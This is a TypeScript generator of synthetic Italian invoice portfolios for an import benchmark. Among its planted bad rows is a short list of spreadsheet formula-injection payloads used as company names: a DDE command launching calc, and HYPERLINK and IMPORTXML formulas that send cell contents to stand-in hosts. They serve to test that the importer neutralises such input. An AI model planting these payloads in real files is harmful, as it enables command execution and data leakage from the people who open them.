/**
 * A seeded generator of realistic Italian overdue-invoice portfolios for the import benchmark, in the
 * format `incasso import` maps by itself (the header of src/test/portfolio.ts): `;` separated, UTF-8,
 * CRLF, amounts "1.234,56", dates dd/mm/yyyy. Streamed: memory stays flat whatever the size.
 *
 *   npx tsx bench/import/generate.ts --rows 1000000 [--seed 1] [--out file.csv]   (stdout without --out)
 *
 * The mix (see README.md): 80 % consumers with a valid codice fiscale built from their name, birth
 * date, sex and a real Belfiore code (omocodia applied when two come out equal), 20 % companies with
 * a valid partita IVA; each debtor has 1–5 invoices spread over the next few thousand rows; ~1 % exact
 * duplicate rows; ~2 % planted bad rows. With --out, the figures are also written to `<out>.stats.json`.
 */
import fs from 'node:fs';
import { once } from 'node:events';
import type { Writable } from 'node:stream';
import { pathToFileURL } from 'node:url';
import { codiceFiscaleCheckChar, partitaIvaCheckDigit } from '../../src/domain/tax-ids.ts';
import { PORTFOLIO_HEADER } from '../../src/test/portfolio.ts';

/** mulberry32: a small, fast, seeded PRNG (uniform in [0, 1)). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ---- Word lists ---------------------------------------------------------------------------------

const MALE = `Giuseppe Giovanni Antonio Mario Luigi Francesco Angelo Vincenzo Pietro Salvatore Carlo Franco Domenico
Bruno Paolo Michele Giorgio Aldo Sergio Luciano Marco Alessandro Andrea Luca Matteo Lorenzo Davide Simone Federico
Riccardo Stefano Roberto Massimo Fabio Daniele Claudio Maurizio Enrico Alberto Gianluca Gianfranco Raffaele Emanuele
Nicola Filippo Tommaso Edoardo Gabriele Leonardo Mattia Giacomo Alessio Cristian Diego Emilio Fabrizio Fernando
Gennaro Gino Guido Ivan Lino Marcello Mauro Nino Ottavio Pasquale Renato Rocco Romano Rosario Sandro Silvio Tiziano
Ugo Umberto Valerio Vittorio Walter Alfredo Arturo Attilio Carmine Cesare Corrado Dario Elia Ettore Flavio Gaetano
Giancarlo Gianni Ignazio Jacopo Loris Manuel Mirko Niccolò Oreste Piero Rinaldo Samuele Teodoro Vito`.split(/\s+/);

const FEMALE = `Maria Anna Giuseppina Rosa Angela Giovanna Teresa Lucia Carmela Caterina Francesca Antonietta Carla Elena
Concetta Rita Margherita Franca Paola Laura Giulia Sofia Aurora Alice Ginevra Emma Giorgia Beatrice Chiara Martina
Sara Valentina Federica Silvia Alessandra Simona Roberta Monica Barbara Cristina Daniela Elisa Erica Eleonora Ilaria
Irene Serena Veronica Claudia Stefania Manuela Patrizia Marina Donatella Gabriella Lorena Loredana Luisa Marta Nadia
Noemi Ornella Raffaella Rosalba Sabrina Sonia Tiziana Vanessa Viola Adele Agnese Alba Bianca Camilla Carolina Debora
Emanuela Fabiola Gemma Greta Ida Jessica Letizia Lidia Livia Mara Matilde Michela Nicoletta Nicole Ottavia Piera
Rebecca Rossella Sabina Vittoria Maddalena Annamaria Mariagrazia`.split(/\s+/);

const SURNAMES = [
  ...new Set(
    `Rossi Russo Ferrari Esposito Bianchi Romano Colombo Ricci Marino Greco Bruno Gallo Conti De_Luca Mancini Costa
Giordano Rizzo Lombardi Moretti Barbieri Fontana Santoro Mariani Rinaldi Caruso Ferrara Galli Martini Leone Longo
Gentile Martinelli Vitale Lombardo Serra Coppola De_Santis D'Angelo Marchetti Parisi Villa Conte Ferraro Ferri Fabbri
Bianco Marini Grasso Valentini Messina Sala De_Angelis Gatti Pellegrini Palumbo Sanna Farina Rizzi Monti Cattaneo
Morelli Amato Silvestri Mazza Testa Grassi Pellegrino Carbone Giuliani Benedetti Barone Rossetti Caputo Montanari
Guerra Palmieri Bernardi Martino Fiore De_Rosa Ferretti Bellini Basile Riva Donati Piras Vitali Battaglia Sartori
Neri Costantini Milani Pagano Ruggiero Sorrentino D'Amico Orlando Negri Mele Bassi Cirillo Di_Stefano Ferrante
Fumagalli Gatto Giorgi Giuliano Iannone Lanza Leonardi Lupo Marchi Mazzini Melis Meloni Morello Mori Musso Napolitano
Nicoletti Olivieri Orsini Pace Pagani Palma Parodi Pastore Piccolo Pinna Poli Porcu Previtali Puglisi Raimondi
Riccardi Romeo Rota Ruggeri Salvi Sanfilippo Santini Sarti Scotti Sessa Spinelli Tedesco Terranova Tosi Toscano
Trevisan Valente Vecchi Ventura Zanetti Zani Zanella Zito Albanese Amendola Antonelli Arena Bellucci Bertolini
Bonetti Borghi Brambilla Bruni Calabrese Campana Cantoni Capone Cappelli Carli Carlucci Casini Castelli Cavallo
Ceccarelli Cerutti Colonna Corsi Cortese Cocco D'Alessandro De_Simone Del_Prete Della_Valle Di_Marco Di_Martino Fadda
Falco Fava Ferrero Fois Gargiulo Giannini Guidi La_Rosa Lo_Russo Mancuso Marras Masala Mattei Mazzoleni Monaco Mura
Nardi Pesce Piazza Quaranta Sciortino Serafini Tripodi Vacca Zucca Lucà Cantù Nicolò Panetta Sibilia Nocera`
      .split(/\s+/)
      .map((s) => s.replace(/_/g, ' ')),
  ),
];

type Town = readonly [name: string, province: string, cap: string, belfiore: string, areaCode: string];

/** [name, province, CAP, Belfiore code, telephone area code] — Belfiore codes checked against codice-fiscale-js's list. */
const TOWNS: readonly Town[] = [
  ['Roma', 'RM', '00184', 'H501', '06'], ['Milano', 'MI', '20121', 'F205', '02'], ['Napoli', 'NA', '80133', 'F839', '081'],
  ['Torino', 'TO', '10121', 'L219', '011'], ['Palermo', 'PA', '90133', 'G273', '091'], ['Genova', 'GE', '16121', 'D969', '010'],
  ['Bologna', 'BO', '40121', 'A944', '051'], ['Firenze', 'FI', '50122', 'D612', '055'], ['Bari', 'BA', '70121', 'A662', '080'],
  ['Catania', 'CT', '95124', 'C351', '095'], ['Venezia', 'VE', '30121', 'L736', '041'], ['Verona', 'VR', '37121', 'L781', '045'],
  ['Messina', 'ME', '98122', 'F158', '090'], ['Padova', 'PD', '35122', 'G224', '049'], ['Trieste', 'TS', '34121', 'L424', '040'],
  ['Brescia', 'BS', '25121', 'B157', '030'], ['Taranto', 'TA', '74123', 'L049', '099'], ['Prato', 'PO', '59100', 'G999', '0574'],
  ['Parma', 'PR', '43121', 'G337', '0521'], ['Modena', 'MO', '41121', 'F257', '059'], ['Reggio di Calabria', 'RC', '89127', 'H224', '0965'],
  ["Reggio nell'Emilia", 'RE', '42121', 'H223', '0522'], ['Perugia', 'PG', '06121', 'G478', '075'], ['Livorno', 'LI', '57123', 'E625', '0586'],
  ['Ravenna', 'RA', '48121', 'H199', '0544'], ['Cagliari', 'CA', '09124', 'B354', '070'], ['Foggia', 'FG', '71121', 'D643', '0881'],
  ['Rimini', 'RN', '47921', 'H294', '0541'], ['Salerno', 'SA', '84121', 'H703', '089'], ['Ferrara', 'FE', '44121', 'D548', '0532'],
  ['Sassari', 'SS', '07100', 'I452', '079'], ['Latina', 'LT', '04100', 'E472', '0773'], ['Monza', 'MB', '20900', 'F704', '039'],
  ['Siracusa', 'SR', '96100', 'I754', '0931'], ['Pescara', 'PE', '65121', 'G482', '085'], ['Bergamo', 'BG', '24121', 'A794', '035'],
  ['Forlì', 'FC', '47121', 'D704', '0543'], ['Trento', 'TN', '38122', 'L378', '0461'], ['Vicenza', 'VI', '36100', 'L840', '0444'],
  ['Terni', 'TR', '05100', 'L117', '0744'], ['Bolzano', 'BZ', '39100', 'A952', '0471'], ['Novara', 'NO', '28100', 'F952', '0321'],
  ['Piacenza', 'PC', '29121', 'G535', '0523'], ['Ancona', 'AN', '60121', 'A271', '071'], ['Andria', 'BT', '76123', 'A285', '0883'],
  ['Arezzo', 'AR', '52100', 'A390', '0575'], ['Udine', 'UD', '33100', 'L483', '0432'], ['Cesena', 'FC', '47521', 'C573', '0547'],
  ['Lecce', 'LE', '73100', 'E506', '0832'], ['Pesaro', 'PU', '61121', 'G479', '0721'], ['La Spezia', 'SP', '19121', 'E463', '0187'],
  ['Como', 'CO', '22100', 'C933', '031'], ['Pisa', 'PI', '56121', 'G702', '050'], ['Lucca', 'LU', '55100', 'E715', '0583'],
  ['Treviso', 'TV', '31100', 'L407', '0422'], ['Varese', 'VA', '21100', 'L682', '0332'], ['Aosta', 'AO', '11100', 'A326', '0165'],
  ['Potenza', 'PZ', '85100', 'G942', '0971'], ['Campobasso', 'CB', '86100', 'B519', '0874'], ["L'Aquila", 'AQ', '67100', 'A345', '0862'],
  ['Catanzaro', 'CZ', '88100', 'C352', '0961'], ['Cosenza', 'CS', '87100', 'D086', '0984'], ['Siena', 'SI', '53100', 'I726', '0577'],
];

const STREETS = `Roma|Garibaldi|Mazzini|Cavour|Dante Alighieri|Vittorio Emanuele II|Giacomo Matteotti|Guglielmo Marconi|Giuseppe Verdi
|XX Settembre|IV Novembre|John Fitzgerald Kennedy|Antonio Gramsci|Alessandro Manzoni|Giosuè Carducci|Giacomo Leopardi|Giovanni Pascoli
|della Repubblica|della Libertà|dei Mille|Nazionale|San Francesco|Santa Maria|Aldo Moro|Europa|Trieste|Trento|Milano|Napoli|Torino
|delle Rose|dei Tigli|del Lavoro|dell'Industria|Galileo Galilei|Alessandro Volta|Enrico Fermi|Cristoforo Colombo|Michelangelo Buonarroti
|Giacomo Puccini|Gioachino Rossini|Vincenzo Bellini|Don Giovanni Minzoni|Cesare Battisti|Guglielmo Oberdan|Piave|Isonzo|Solferino
|Magenta|Monte Grappa|dei Caduti|San Giuseppe|della Stazione|Po|Tevere|Adige`
  .split('|')
  .map((s) => s.trim());
const STREET_KINDS: readonly (readonly [string, number])[] = [['Via', 0.62], ['Viale', 0.12], ['Piazza', 0.1], ['Corso', 0.09], ['Largo', 0.04], ['Vicolo', 0.03]];

const ACTIVITIES = `Costruzioni Trasporti Impianti Edilizia Commerciale Servizi Alimentari Informatica Forniture Arredamenti Meccanica
Elettronica Immobiliare Logistica Ristorazione Tessile Agricola Ceramiche Autoricambi Termoidraulica Serramenti Carpenteria
Distribuzione Caseificio Vini Ottica Farmaceutica Stampa Pulizie Giardinaggio`.split(/\s+/);
const LEGAL_FORMS: readonly (readonly [string, number])[] = [['S.r.l.', 0.55], ['S.r.l.s.', 0.08], ['S.p.A.', 0.1], ['S.n.c.', 0.15], ['S.a.s.', 0.12]];
const MAIL_DOMAINS = ['gmail.com', 'libero.it', 'hotmail.it', 'yahoo.it', 'virgilio.it', 'alice.it', 'tiscali.it', 'outlook.it', 'tim.it', 'fastwebnet.it'];
const MOBILE_PREFIXES = ['320', '328', '329', '333', '334', '335', '338', '339', '340', '342', '345', '347', '348', '349', '351', '366', '368', '380', '389', '392', '393'];
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://phish.example/?d="&C2;"Dettagli fattura")',
  '=SOMMA(M2:M9)',
  '=IMPORTXML(CONCAT("https://x.example/?v=";E2);"//a")',
];
const IMPOSSIBLE_DATES = ['31/02/2025', '30/02/2024', '29/02/2023', '31/04/2023', '31/06/2022', '31/09/2021', '31/11/2020', '32/01/2024', '15/13/2022'];

/** The kinds of planted bad row. All but `formula` must be refused by the importer. */
export const BAD_KINDS = ['cfCheck', 'impossibleDate', 'threeDecimals', 'emptyAmount', 'negativeAmount', 'formula', 'longName'] as const;
export type BadKind = (typeof BAD_KINDS)[number];
/** Bad rows the importer takes anyway: a formula in a name is text (neutralised when exported). */
export const ACCEPTED_BAD: readonly BadKind[] = ['formula'];

// ---- Codice fiscale -------------------------------------------------------------------------------

const lettersOf = (s: string) =>
  s
    .toUpperCase()
    .normalize('NFD')
    .replace(/\p{M}/gu, '')
    .replace(/[^A-Z]/g, '');
const consonants = (s: string) => s.replace(/[AEIOU]/g, '');
const vowels = (s: string) => s.replace(/[^AEIOU]/g, '');
const surnameCode = (s: string) => {
  const l = lettersOf(s);
  return (consonants(l) + vowels(l) + 'XXX').slice(0, 3);
};
const firstNameCode = (s: string) => {
  const l = lettersOf(s);
  const c = consonants(l);
  return c.length >= 4 ? c[0]! + c[2]! + c[3]! : (c + vowels(l) + 'XXX').slice(0, 3);
};
const MONTH_LETTERS = 'ABCDEHLMPRST';
const OMOCODIA_LETTERS = 'LMNPQRSTUV';
/** Positions of the digits replaced, right to left, when two people would get the same code. */
const OMOCODIA_POSITIONS = [14, 13, 12, 10, 9, 7, 6];

// ---- Dates and amounts ------------------------------------------------------------------------------

const DAY_MS = 86_400_000;
const dayOf = (y: number, m: number, d: number) => Math.round(Date.UTC(y, m - 1, d) / DAY_MS);
/**
 * Due dates 2019-01-01 … 2026-10-31: overdue invoices. The importer refuses issue dates in the future
 * and due dates more than a year ahead; ending in October 2026 keeps every issue date (30–90 days
 * before the due date) in the past on this machine's clock (November 2026) and the file independent
 * of the day it is generated.
 */
const FIRST_DUE = dayOf(2019, 1, 1);
const LAST_DUE = dayOf(2026, 10, 31);
const DATE_TEXT: string[] = [];
const DATE_YEAR: number[] = [];
for (let day = FIRST_DUE - 100; day <= LAST_DUE; day++) {
  const d = new Date(day * DAY_MS);
  DATE_TEXT.push(`${String(d.getUTCDate()).padStart(2, '0')}/${String(d.getUTCMonth() + 1).padStart(2, '0')}/${d.getUTCFullYear()}`);
  DATE_YEAR.push(d.getUTCFullYear());
}
const dateIndex = (day: number) => day - (FIRST_DUE - 100);

/** "1.234,56": thousands dots, decimal comma. */
export function italianAmount(cents: number): string {
  const int = String(Math.floor(cents / 100));
  let grouped = '';
  for (let i = int.length; i > 0; i -= 3) grouped = int.slice(Math.max(0, i - 3), i) + (grouped ? `.${grouped}` : '');
  return `${grouped},${String(cents % 100).padStart(2, '0')}`;
}

// ---- The generator --------------------------------------------------------------------------------

interface Debtor {
  kind: 'consumer' | 'company';
  /** Cells 1–11 (Ragione sociale … Telefono), already CSV-quoted. */
  cells: string;
  lastName: string;
  firstName: string;
  taxCode: string;
  companyName: string;
  invoicesLeft: number;
  emitted: boolean;
  hasEmail: boolean;
  hasPhone: boolean;
}

export interface GenerateStats {
  seed: number;
  rows: number;
  /** Rows with an invoice number of their own that the importer must take (formula rows excluded). */
  goodRows: number;
  duplicates: number;
  bad: Record<BadKind, number>;
  badTotal: number;
  /** Debtors with at least one good row (the formula rows' companies not included). */
  debtors: number;
  consumers: number;
  companies: number;
  /** Codici fiscali that came out equal for two people and were told apart by omocodia. */
  omocodia: number;
  withEmail: number;
  withPhone: number;
  bytes: number;
  seconds: number;
  /** What `incasso import` should report for this file on an empty creditor. */
  expected: { imported: number; unchanged: number; rejected: number; debtorsCreated: number; claims: number };
}

export interface GenerateOptions {
  rows: number;
  seed?: number;
  /** Share of exact duplicate rows (default 0.01) and of bad rows (default 0.02). */
  duplicateShare?: number;
  badShare?: number;
}

const csvCell = (s: string) => (s.includes(';') || s.includes('"') || s.includes('\n') || s.includes('\r') ? `"${s.replace(/"/g, '""')}"` : s);

/**
 * Writes a portfolio of `rows` data rows (after the header) to `out`, respecting back-pressure, and
 * answers its figures. Memory: a pool of open debtors, the last few thousand rows (for duplicates) and
 * the set of codici fiscali given out (omocodia), ~30 MB for a million rows.
 */
export async function generatePortfolio(out: Writable, opts: GenerateOptions): Promise<GenerateStats> {
  const started = performance.now();
  const seed = opts.seed ?? 1;
  const r = prng(seed);
  const duplicateShare = opts.duplicateShare ?? 0.01;
  const badShare = opts.badShare ?? 0.02;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const weighted = (xs: readonly (readonly [string, number])[]): string => {
    let u = r();
    for (const [v, w] of xs) if ((u -= w) < 0) return v;
    return xs[xs.length - 1]![0];
  };
  const digits = (n: number) => {
    let s = '';
    for (let i = 0; i < n; i++) s += Math.floor(r() * 10);
    return s;
  };

  const stats: GenerateStats = {
    seed,
    rows: 0,
    goodRows: 0,
    duplicates: 0,
    bad: Object.fromEntries(BAD_KINDS.map((k) => [k, 0])) as Record<BadKind, number>,
    badTotal: 0,
    debtors: 0,
    consumers: 0,
    companies: 0,
    omocodia: 0,
    withEmail: 0,
    withPhone: 0,
    bytes: 0,
    seconds: 0,
    expected: { imported: 0, unchanged: 0, rejected: 0, debtorsCreated: 0, claims: 0 },
  };
  const usedCf = new Set<string>();
  let debtorSeq = 0;
  let invoiceSeq = 0;

  const contacts = (local: string, domain: string | null, town: Town): [string, string] => {
    const email = r() < 0.6 ? `${local}@${domain ?? pick(MAIL_DOMAINS)}` : '';
    let phone = '';
    if (r() < 0.4) {
      // Mobile 3xx (65 %) or landline 0xx; written with and without spaces, as exports do.
      phone = r() < 0.65 ? `${pick(MOBILE_PREFIXES)}${r() < 0.5 ? ' ' : ''}${digits(7)}` : `${town[4]} ${digits(10 - town[4].length)}`;
    }
    return [email, phone];
  };
  const address = () => {
    const town = pick(TOWNS);
    const kind = weighted(STREET_KINDS);
    const street = pick(STREETS);
    const n = 1 + Math.floor(r() ** 2 * 180);
    const line = `${kind} ${street} ${n}${r() < 0.05 ? '/' + 'ABC'[Math.floor(r() * 3)] : ''}`;
    return { town, line };
  };

  const newConsumer = (): Debtor => {
    const female = r() < 0.5;
    const firstName = pick(female ? FEMALE : MALE);
    const lastName = pick(SURNAMES);
    const year = 1940 + Math.floor(r() * 66);
    const month = 1 + Math.floor(r() * 12);
    const dim = month === 2 ? (year % 4 === 0 ? 29 : 28) : [4, 6, 9, 11].includes(month) ? 30 : 31;
    const day = 1 + Math.floor(r() * dim);
    const birthTown = pick(TOWNS);
    let first15 = `${surnameCode(lastName)}${firstNameCode(firstName)}${String(year % 100).padStart(2, '0')}${MONTH_LETTERS[month - 1]}${String(day + (female ? 40 : 0)).padStart(2, '0')}${birthTown[3]}`;
    for (let k = 0; usedCf.has(first15) && k < OMOCODIA_POSITIONS.length; k++) {
      const p = OMOCODIA_POSITIONS[k]!;
      first15 = first15.slice(0, p) + OMOCODIA_LETTERS[Number(first15[p])] + first15.slice(p + 1);
      stats.omocodia++;
    }
    usedCf.add(first15);
    const taxCode = first15 + codiceFiscaleCheckChar(first15);
    const { town, line } = address();
    const local = `${lettersOf(firstName).toLowerCase()}${r() < 0.5 ? '.' : ''}${lettersOf(lastName).toLowerCase()}${r() < 0.6 ? String(Math.floor(r() * 100)) : ''}`;
    const [email, phone] = contacts(local, null, town);
    // Some exports write names in capitals.
    const upper = r() < 0.25;
    const ln = upper ? lastName.toUpperCase() : lastName;
    const fn = upper ? firstName.toUpperCase() : firstName;
    return {
      kind: 'consumer',
      cells: ['', ln, fn, taxCode, '', line, town[2], town[0], town[1], email, phone].map(csvCell).join(';'),
      lastName: ln,
      firstName: fn,
      taxCode,
      companyName: '',
      invoicesLeft: 1 + Math.floor(r() * 5),
      emitted: false,
      hasEmail: email !== '',
      hasPhone: phone !== '',
    };
  };

  const partitaIva = (townIndex: number) => {
    // Seven-digit progressive number, three-digit office code of the province, check digit.
    const first10 = `${String(1_000_000 + ((debtorSeq * 7_919) % 8_999_999)).padStart(7, '0')}${String((townIndex % 100) + 1).padStart(3, '0')}`;
    return first10 + partitaIvaCheckDigit(first10);
  };
  const newCompany = (name?: string): Debtor => {
    const surname = pick(SURNAMES);
    const activity = pick(ACTIVITIES);
    const form = weighted(LEGAL_FORMS);
    const companyName =
      name ??
      (form === 'S.n.c.' || form === 'S.a.s.'
        ? `${activity} ${surname} di ${pick(MALE)} ${surname} & C. ${form}`
        : r() < 0.5
          ? `${surname} ${activity} ${form}`
          : `${activity} ${surname} ${form}`);
    const { town, line } = address();
    const piva = partitaIva(TOWNS.indexOf(town));
    debtorSeq++;
    const domain = `${lettersOf(surname).toLowerCase()}${lettersOf(activity).toLowerCase()}.it`;
    const [email, phone] = contacts(pick(['amministrazione', 'info', 'contabilita', 'ufficio']), domain, town);
    // Half the exports repeat the partita IVA as codice fiscale (as most companies' are the same number).
    const cf = r() < 0.5 ? piva : '';
    return {
      kind: 'company',
      cells: [companyName, '', '', cf, piva, line, town[2], town[0], town[1], email, phone].map(csvCell).join(';'),
      lastName: '',
      firstName: '',
      taxCode: cf,
      companyName,
      invoicesLeft: 1 + Math.floor(r() * 5),
      emitted: false,
      hasEmail: email !== '',
      hasPhone: phone !== '',
    };
  };
  const newDebtor = (): Debtor => {
    if (r() < 0.8) {
      debtorSeq++;
      return newConsumer();
    }
    return newCompany();
  };

  /** Open debtors: a row picks one at random, so a debtor's invoices spread over a few thousand rows. */
  const POOL = 1000;
  const pool: Debtor[] = [];
  const poolDebtor = (): Debtor => {
    while (pool.length < POOL) pool.push(newDebtor());
    return pool[Math.floor(r() * pool.length)]!;
  };
  const invoice = () => {
    const due = FIRST_DUE + Math.floor(r() * (LAST_DUE - FIRST_DUE + 1));
    const issue = due - 30 - Math.floor(r() * 61);
    const year = DATE_YEAR[dateIndex(issue)]!;
    invoiceSeq++;
    const ref = `FT-${year}-${String(invoiceSeq).padStart(7, '0')}`;
    // Log-uniform €10 – €50,000.
    const cents = Math.round(10 ** (3 + r() * Math.log10(5_000)));
    return { ref, due: DATE_TEXT[dateIndex(due)]!, issue: DATE_TEXT[dateIndex(issue)]!, amount: italianAmount(cents), cents };
  };
  const line = (ref: string, debtorCells: string, amount: string, due: string, issue: string) => `${csvCell(ref)};${debtorCells};${csvCell(amount)};${due};${issue}`;

  /** The last good rows, for exact duplicates (some in the same batch of 500, most in an earlier one). */
  const RECENT = 4096;
  const recent: string[] = [];
  let recentNext = 0;

  const badRow = (kind: BadKind): string => {
    const inv = invoice();
    switch (kind) {
      case 'cfCheck': {
        let d = poolDebtor();
        for (let k = 0; k < 10 && d.kind !== 'consumer'; k++) d = poolDebtor();
        if (d.kind !== 'consumer') d = newConsumer();
        const good = d.taxCode;
        const wrong = String.fromCharCode(65 + ((good.charCodeAt(15) - 65 + 1 + Math.floor(r() * 25)) % 26));
        return line(inv.ref, d.cells.replace(good, good.slice(0, 15) + wrong), inv.amount, inv.due, inv.issue);
      }
      case 'impossibleDate':
        return line(inv.ref, poolDebtor().cells, inv.amount, pick(IMPOSSIBLE_DATES), inv.issue);
      case 'threeDecimals':
        return line(inv.ref, poolDebtor().cells, `${italianAmount(inv.cents)}${Math.floor(r() * 10)}`, inv.due, inv.issue);
      case 'emptyAmount':
        return line(inv.ref, poolDebtor().cells, '', inv.due, inv.issue);
      case 'negativeAmount':
        return line(inv.ref, poolDebtor().cells, `-${inv.amount}`, inv.due, inv.issue);
      case 'formula': {
        // A company of its own whose name is a spreadsheet formula.
        const d = newCompany(pick(FORMULAS));
        return line(inv.ref, d.cells, inv.amount, inv.due, inv.issue);
      }
      case 'longName': {
        const d = poolDebtor();
        let long = d.kind === 'consumer' ? d.lastName : d.companyName;
        while (long.length < 300) long += ` ${pick(SURNAMES)}`;
        long = long.slice(0, 300);
        const cells = d.kind === 'consumer' ? d.cells.replace(csvCell(d.lastName), csvCell(long)) : d.cells.replace(csvCell(d.companyName), csvCell(long));
        return line(inv.ref, cells, inv.amount, inv.due, inv.issue);
      }
    }
  };

  let chunk: string[] = [PORTFOLIO_HEADER.join(';')];
  const flush = async () => {
    const text = `${chunk.join('\r\n')}\r\n`;
    chunk = [];
    stats.bytes += Buffer.byteLength(text);
    if (!out.write(text)) await once(out, 'drain');
  };

  for (let i = 0; i < opts.rows; i++) {
    const u = r();
    let row: string;
    if (u < duplicateShare && recent.length > 0) {
      row = recent[Math.floor(r() * recent.length)]!;
      stats.duplicates++;
    } else if (u < duplicateShare + badShare) {
      const kind = BAD_KINDS[Math.floor(r() * BAD_KINDS.length)]!;
      row = badRow(kind);
      stats.bad[kind]++;
      stats.badTotal++;
    } else {
      const d = poolDebtor();
      const inv = invoice();
      row = line(inv.ref, d.cells, inv.amount, inv.due, inv.issue);
      stats.goodRows++;
      if (!d.emitted) {
        d.emitted = true;
        stats.debtors++;
        if (d.kind === 'consumer') stats.consumers++;
        else stats.companies++;
        if (d.hasEmail) stats.withEmail++;
        if (d.hasPhone) stats.withPhone++;
      }
      if (--d.invoicesLeft === 0) {
        const at = pool.indexOf(d);
        pool[at] = pool[pool.length - 1]!;
        pool.pop();
      }
      if (recent.length < RECENT) recent.push(row);
      else recent[recentNext++ % RECENT] = row;
    }
    chunk.push(row);
    stats.rows++;
    if (chunk.length >= 2000) await flush();
  }
  await flush();

  const accepted = ACCEPTED_BAD.reduce((s, k) => s + stats.bad[k], 0);
  stats.expected = {
    imported: stats.goodRows + accepted,
    unchanged: stats.duplicates,
    rejected: stats.badTotal - accepted,
    debtorsCreated: stats.debtors + accepted,
    claims: stats.goodRows + accepted,
  };
  stats.seconds = (performance.now() - started) / 1000;
  return stats;
}

export function describeStats(s: GenerateStats): string {
  const pct = (n: number) => `${((n / Math.max(1, s.rows)) * 100).toFixed(2)} %`;
  return [
    `rows written: ${s.rows.toLocaleString('en-US')} (seed ${s.seed}) — good ${s.goodRows.toLocaleString('en-US')}, exact duplicates ${s.duplicates.toLocaleString('en-US')} (${pct(s.duplicates)}), bad ${s.badTotal.toLocaleString('en-US')} (${pct(s.badTotal)})`,
    `bad rows planted: ${BAD_KINDS.map((k) => `${k} ${s.bad[k]}`).join(', ')} (formula rows are text the importer should accept)`,
    `distinct debtors: ${s.debtors.toLocaleString('en-US')} (${s.consumers.toLocaleString('en-US')} consumers, ${s.companies.toLocaleString('en-US')} companies; omocodia ${s.omocodia}) + ${s.bad.formula} formula-named companies; with e-mail ${Math.round((s.withEmail / Math.max(1, s.debtors)) * 100)} %, with phone ${Math.round((s.withPhone / Math.max(1, s.debtors)) * 100)} %`,
    `expected import: imported ${s.expected.imported}, unchanged ${s.expected.unchanged}, rejected ${s.expected.rejected}, debtors created ${s.expected.debtorsCreated}`,
    `bytes: ${s.bytes.toLocaleString('en-US')} (${(s.bytes / 1024 / 1024).toFixed(1)} MB); seconds: ${s.seconds.toFixed(2)}`,
  ].join('\n');
}

function arg(name: string): string | undefined {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1] : undefined;
}

if (process.argv[1]?.endsWith('generate.ts') && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const rows = Number(arg('rows') ?? 1_000_000);
  const seed = Number(arg('seed') ?? 1);
  const file = arg('out');
  if (!Number.isSafeInteger(rows) || rows < 0 || !Number.isSafeInteger(seed)) {
    process.stderr.write('usage: npx tsx bench/import/generate.ts --rows 1000000 [--seed 1] [--out file.csv]\n');
    process.exit(2);
  }
  const out = file ? fs.createWriteStream(file) : process.stdout;
  // `generate.ts … | head`: a closed pipe ends the run quietly.
  out.on('error', (err: NodeJS.ErrnoException) => {
    if (err.code !== 'EPIPE') throw err;
    process.exit(0);
  });
  const stats = await generatePortfolio(out, { rows, seed });
  if (file) {
    await new Promise<void>((resolve, reject) => out.end((err?: Error | null) => (err ? reject(err) : resolve())));
    fs.writeFileSync(`${file}.stats.json`, `${JSON.stringify(stats, null, 2)}\n`);
  }
  process.stderr.write(`${describeStats(stats)}\n`);
}
